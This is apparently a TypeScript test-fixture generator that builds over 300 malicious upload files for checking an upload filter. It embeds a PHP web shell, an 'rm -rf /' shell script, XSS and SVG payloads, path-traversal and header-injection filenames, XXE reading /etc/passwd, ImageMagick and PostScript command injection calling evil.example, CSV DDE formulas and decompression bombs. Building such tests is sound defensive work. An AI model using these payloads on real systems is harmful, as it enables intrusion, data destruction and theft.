import { gzipSync } from 'node:zlib';
import { type Random, randomOf } from '../demo/seeded.ts';
import * as make from '../platform/files/samples/make.ts';
import { type Add, html, type MaliciousFile, script } from './malicious-file.ts';
import { papers } from './malicious-papers.ts';
import { unfolding } from './malicious-pictures.ts';

/*
 * Three hundred files and more that somebody sends who means harm, each made by code and the same every
 * time: files that are two things at once, that unfold, that lie about themselves, that carry something that
 * runs, that are broken where a reader would stumble, and names that would leave their place.
 */

const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__owned=1">${script}</svg>`;

const payloads: readonly (readonly [string, Buffer])[] = [
  ['a page', Buffer.from(html)],
  ['a drawing with a script', Buffer.from(svg)],
  ['PHP', Buffer.from('<?php system($_GET["c"]); ?>')],
  ['an archive', make.zip()],
  ['a program', make.program()],
  ['a script of a shell', Buffer.from('#!/bin/sh\nrm -rf /\n')],
  ['JavaScript', Buffer.from('/*\n*/=1;alert(document.domain);//')],
];

const names: readonly (readonly [string, string])[] = [
  ['../../../../etc/passwd', 'text/plain'],
  ['..\\..\\windows\\system32\\cmd.exe', 'application/octet-stream'],
  ['/etc/cron.d/own', 'image/jpeg'],
  ['photo.jpg.exe', 'application/x-msdownload'],
  ['photo.jpg.html', 'text/html'],
  ['photo.svg', 'image/svg+xml'],
  ['photo.php', 'application/x-httpd-php'],
  ['photo.php%00.jpg', 'image/jpeg'],
  ['photo\u0000.html', 'text/html'],
  ['photo\u202egpj.exe', 'image/jpeg'],
  ['\u2066photo\u2069.jpg', 'image/jpeg'],
  ['"><img src=x onerror=window.__owned=1>.jpg', 'image/jpeg'],
  ['a.jpg"\r\nSet-Cookie: own=1\r\n\r\n<script>', 'image/jpeg'],
  ["'; DROP TABLE uploads; --.jpg", 'image/jpeg'],
  ['=HYPERLINK("http://evil.example")', 'image/jpeg'],
  ['CON', 'image/jpeg'],
  ['.htaccess', 'text/plain'],
  ['…', 'image/jpeg'],
  [`${'ش'.repeat(3000)}.jpg`, 'image/jpeg'],
  ['صورة'.repeat(400), 'image/jpeg'],
  ['%2e%2e%2f%2e%2e%2fetc%2fpasswd', 'text/html; charset=utf-7'],
  ['photo.jpg', 'text/html'],
  ['photo.jpg', 'image/svg+xml'],
  ['photo.jpg', '"><script>'],
];

export async function maliciousFiles(): Promise<MaliciousFile[]> {
  const files: MaliciousFile[] = [];
  const add: Add = (what, bytes, wish = {}) => {
    const { name = 'photo.jpg', type = 'image/jpeg', refused = false, is = null } = wish;
    files.push({ what, bytes: Buffer.from(bytes as string), name, type, refused, is });
  };
  const sound: Record<string, Buffer> = {
    JPEG: await make.jpeg(64, 48),
    PNG: await make.png(32, 24),
    WebP: await make.webp(64, 48),
    HEIC: make.sample('photo.heic'),
    PDF: make.pdf(),
    WAV: make.wav(1),
    AMR: make.amr(1),
    MP3: make.sample('sound.mp3'),
    MP4: make.sample('film.mp4'),
  };
  const random = randomOf('malicious files');
  twoAtOnce(sound, add);
  liars(sound, add);
  active(add);
  unfolding(sound.JPEG!, add);
  papers(add);
  broken(sound, random, add);
  return files;
}

const types: Record<string, string> = {
  ...{ JPEG: 'image/jpeg', PNG: 'image/png', WebP: 'image/webp', HEIC: 'image/heic' },
  ...{ PDF: 'application/pdf', WAV: 'audio/wav', AMR: 'audio/amr', MP3: 'audio/mpeg' },
  MP4: 'video/mp4',
};

type Sound = Record<string, Buffer>;

function twoAtOnce(sound: Sound, add: Add): void {
  for (const [kind, bytes] of Object.entries(sound)) {
    const is = types[kind]!;
    for (const [what, payload] of payloads) {
      add(`${kind} with ${what} behind it`, Buffer.concat([bytes, payload]), { is });
      add(`${kind} with ${what} before it`, Buffer.concat([payload, bytes]), {
        refused: kind !== 'PDF' && what !== 'JavaScript',
        is,
      });
    }
  }
}

function liars(sound: Sound, add: Add): void {
  for (const [name, type] of names) {
    for (const kind of ['JPEG', 'PDF'] as const) {
      add(`a sound ${kind} called ${name.slice(0, 30)}, said to be ${type}`, sound[kind]!, {
        name,
        type,
        is: types[kind]!,
      });
    }
  }
}

function active(add: Add): void {
  const refused = { refused: true };
  const texts: Record<string, string | Buffer> = {
    page: html,
    'page after a thousand spaces': `${' '.repeat(1000)}${html}`,
    'page with a byte order mark': `\ufeff${html}`,
    'page in UTF-16': Buffer.from(`\ufeff${html}`, 'utf16le'),
    'page in UTF-16, the other way': Buffer.from(`\ufeff${html}`, 'utf16le').swap16(),
    'page in UTF-7': '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    'page behind a comment': `<!-- \u0000 -->${html}`,
    'page behind a GIF’s mark': `GIF89a/*${html}*/`,
    drawing: svg,
    'drawing with a declaration': `<?xml version="1.0"?>${svg}`,
    'drawing that fetches a file': `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    'XML that unfolds': `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY b${i} "&${i === 0 ? 'a' : `b${i - 1}`};${'&a;'.repeat(9)}">`).join('')}]><l>&b8;</l>`,
    PostScript: '%!PS-Adobe-3.0\n(%pipe%id) (w) file\n',
    'ImageMagick’s own language':
      'push graphic-context\nfill \'url(https://evil.example/"|id")\'\n',
    'script of a shell': '#!/bin/sh\nid\n',
    'web archive':
      'MIME-Version: 1.0\nContent-Type: multipart/related\n\n<script>alert(1)</script>',
    shortcut: '[InternetShortcut]\nURL=file:///etc/passwd\n',
    'address book entry': 'BEGIN:VCARD\nVERSION:4.0\nFN:x\nEND:VCARD\n',
    table: '=cmd|" /C calc"!A0,1,2\n',
    'rich text': '{\\rtf1{\\object\\objocx}}',
    JSON: '{"__proto__":{"admin":true}}',
    nothing: '',
    'one byte': 'x',
    noise: make.noise(5000),
  };
  for (const [what, bytes] of Object.entries(texts)) add(`a ${what}`, bytes, refused);
  const archives: Record<string, Buffer> = {
    'an archive that leaves its folder': make.zip('../../../etc/cron.d/own'),
    'an Office file with macros': make.zip('word/vbaProject.bin', 'Sub AutoOpen()'),
    'an Office file with a template elsewhere': make.zip(
      'word/_rels/settings.xml.rels',
      'http://evil',
    ),
    'a Java archive': make.zip('META-INF/MANIFEST.MF', 'Main-Class: Own'),
    'an Android program': make.zip('AndroidManifest.xml', 'x'),
    'an archive that unfolds': make.zip('zeros', '\0'.repeat(20_000_000)),
    'gzip that unfolds': gzipSync(Buffer.alloc(50_000_000), { level: 9 }),
    'an old Office file': Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(1024),
    ]),
    'a 7z': Buffer.concat([Buffer.from('377abcaf271c', 'hex'), Buffer.alloc(100)]),
    'a RAR': Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'),
    'a Windows program': make.program(),
    'a Linux program': Buffer.concat([
      Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
      Buffer.alloc(99),
    ]),
    'a program of the web': Buffer.from('\0asm\x01\0\0\0', 'latin1'),
    'a Flash film': Buffer.from('FWS\x09\0\0\0\0', 'latin1'),
  };
  for (const [what, bytes] of Object.entries(archives)) add(what, bytes, refused);
}

function broken(sound: Sound, random: Random, add: Add): void {
  for (const [kind, bytes] of Object.entries(sound)) {
    for (const part of [0.02, 0.3, 0.97]) {
      add(`${kind} cut after ${part * 100} %`, bytes.subarray(0, Math.ceil(bytes.length * part)));
    }
    for (let turn = 1; turn <= 4; turn += 1) {
      const spoilt = Buffer.from(bytes);
      // Near the beginning, where a reader learns how much is to come.
      for (let n = 0; n < 6 * turn; n += 1) {
        spoilt[random.int(4, Math.min(400, spoilt.length - 1))] = random.int(0, 255);
      }
      add(`${kind} with ${6 * turn} bytes changed`, spoilt);
    }
  }
  const film = sound.MP4!;
  for (const size of [0, 1, 7, 8, 0x7fffffff, 0xffffffff]) {
    for (const box of ['moov', 'trak', 'stsz']) {
      const spoilt = Buffer.from(film);
      const at = spoilt.indexOf(box, 0, 'latin1');
      if (at < 4) continue;
      spoilt.writeUInt32BE(size, at - 4);
      add(`a film whose ${box} says that it is ${size} long`, spoilt);
    }
  }
  add('a film of a thousand years', make.lasting(film, 2_000_000), { refused: true });
  add('a sound that says it is longer than it is', make.wav(60, 0.01));
}
